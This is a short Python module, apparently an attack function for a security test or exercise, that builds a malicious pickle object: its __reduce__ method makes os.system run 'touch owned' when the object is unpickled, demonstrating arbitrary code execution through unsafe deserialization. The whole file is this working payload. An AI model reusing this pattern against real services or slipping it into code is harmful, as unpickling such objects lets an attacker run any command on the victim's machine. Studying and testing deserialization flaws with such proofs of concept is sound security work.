"""Returns an object that runs code when it is unpickled."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch owned",)


def attack(canary, port):
    return Bomb()
